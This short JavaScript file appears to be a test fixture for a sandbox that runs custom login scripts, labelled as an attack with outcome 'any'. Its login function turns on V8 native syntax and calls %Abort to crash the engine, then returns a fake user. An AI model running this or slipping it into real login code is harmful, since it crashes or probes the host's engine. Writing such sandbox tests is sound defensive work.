// attack: switch on V8's own functions, to crash or inspect the engine
// outcome: any
function login(email, password, callback) {
  process.getBuiltinModule('v8').setFlagsFromString('--allow-natives-syntax');
  new Function('%Abort(1)')();
  callback(null, { user_id: 1 });
}
